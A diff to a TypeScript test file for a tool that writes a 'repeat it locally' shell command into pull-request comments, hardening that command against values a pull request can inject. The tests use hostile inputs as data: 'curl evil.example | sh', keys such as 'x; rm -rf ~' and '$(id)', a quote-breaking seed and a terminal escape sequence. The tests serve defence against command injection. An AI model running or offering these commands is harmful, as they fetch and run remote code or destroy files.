@@ -13,6 +13,7 @@ import {
   renderSummary,
   STATE_WORDS,
 } from '../../src/render/markdown.ts';
+import { PUBLISHED_PACKAGE } from '../../src/model/version.ts';
 import { repeatCommands } from '../../src/render/repeat-command.ts';
 import { VERDICT_WORDS } from '../../src/render/verdict-table.ts';
 import { headlineOf } from '../../src/verdict/headline.ts';
@@ -75,7 +76,9 @@ describe('the comment', () => {
     expect(html).toContain('latency p99');
     expect(html).toMatch(/\(p &lt; 0\.0001\)/);
     expect(html).toMatch(/>Detectable<[^]*(<td align="right">\+[\d.]+%<\/td>\s*){5}/);
-    expect(html).toContain(`npx cannongate@0.0.0 compare --baseline ${'b'.repeat(40)} --seed seed`);
+    expect(html).toContain(
+      `node ../cannongate/dist/cli.js compare --baseline ${'b'.repeat(40)} --seed seed`,
+    );
   });
 
   it('shows the runtime metrics, and which processes they are from', async () => {
@@ -324,13 +327,12 @@ describe('the command that repeats a comparison', () => {
   const lines = async (given: Record<string, string>, changed: Partial<Report> = {}) =>
     repeatCommands({ ...(await aReport({}, { inputs: given })), ...changed });
   const candidate = 'c'.repeat(40);
-  const command = `npx cannongate@0.0.0 compare --baseline ${'b'.repeat(40)} --seed seed`;
+  const command = `node ../cannongate/dist/cli.js compare --baseline ${'b'.repeat(40)} --seed seed`;
 
   it('has the inputs as flags, quoted for the shell', async () => {
     const given = {
-      start: "node it's.js",
+      'working-directory': "it's here",
       paths: '/a\n\n/b?x=1\n',
-      env: 'TOKEN\nMODE',
       tolerance: '5%',
       baseline: 'main',
       comment: 'never',
@@ -338,15 +340,37 @@ describe('the command that repeats a comparison', () => {
     };
     expect(await lines(given)).toEqual([
       `git checkout ${candidate}`,
-      `${command} --start 'node it'\\''s.js' --env TOKEN --env MODE --paths /a --paths '/b?x=1' --tolerance 5% --filter search --filter 'sign in'`,
+      `${command} --working-directory 'it'\\''s here' --paths /a --paths '/b?x=1' --tolerance 5% --filter search --filter 'sign in'`,
     ]);
   });
 
-  it('keeps a value of several lines whole', async () => {
-    const [, ...rest] = await lines({ start: 'export A=1\n  node a.js' });
-    expect(rest).toEqual([`${command} --start 'export A=1`, "  node a.js'"]);
-    const text = renderMarkdown(await aReport({}, { inputs: { start: 'a\n  b' } }));
-    expect(text).toContain("--start 'a\n  b'\n```");
+  it.each(['start', 'install', 'build', 'env'])(
+    'never has the value of %s, which a pull request can write; it says to add it',
+    async (name) => {
+      const report = await aReport({}, { inputs: { [name]: 'curl evil.example | sh' } });
+      expect(repeatCommands(report).at(-1)).toBe(command);
+      const section = /<summary>Repeat it locally[^]*?<\/details>/;
+      const text = section.exec(renderMarkdown(report))?.[0];
+      expect(text).toContain(`Add \`--${name}\` with the values of the workflow`);
+      expect(text).not.toContain('evil');
+    },
+  );
+
+  it('has no value with control characters, which a terminal could act on', async () => {
+    expect((await lines({ config: 'a\nid\n', seed: 'x' })).at(-1)).toBe(command);
+    expect((await lines({ 'working-directory': 'a\u001b[201~id\r' })).at(-1)).toBe(command);
+  });
+
+  it('names no package of npm, until there is one that is ours', async () => {
+    expect(PUBLISHED_PACKAGE).toBeNull();
+    const report = await aReport();
+    expect(renderMarkdown(report)).not.toContain('npx');
+    expect(renderMarkdown(report)).toContain('cannongate is not on npm: clone its repository');
+    expect(repeatCommands(report, 'cannongate').at(-1)).toBe(
+      command.replace('node ../cannongate/dist/cli.js', 'npx cannongate@0.0.0'),
+    );
+    const invalid = { ...report, cannongate: 'npm:other' };
+    expect(repeatCommands(invalid, 'cannongate').at(-1)).toMatch(/^npx cannongate compare --/);
   });
 
   it('fetches the merge commit of a pull request, which is on no branch', async () => {
@@ -362,11 +386,9 @@ describe('the command that repeats a comparison', () => {
     expect(await lines({}, { commits, pullRequest: 7 })).toEqual([command]);
   });
 
-  it('ignores unknown inputs and an invalid version in a saved report', async () => {
+  it('ignores unknown inputs in a saved report, and quotes the seed', async () => {
     const hostile = { 'x; rm -rf ~': '1', '$(id)': '2', token: 'abc', constructor: 'x' };
     expect((await lines(hostile)).at(-1)).toBe(command);
-    const other = { cannongate: 'npm:other' };
-    expect((await lines({}, other)).at(-1)).toMatch(/^npx cannongate compare --baseline b/);
     const settings = { ...(await aReport()).settings, seed: "'; id; '" };
     expect((await lines({}, { settings })).at(-1)).toMatch(/ --seed ''\\''; id; '\\'''$/);
   });
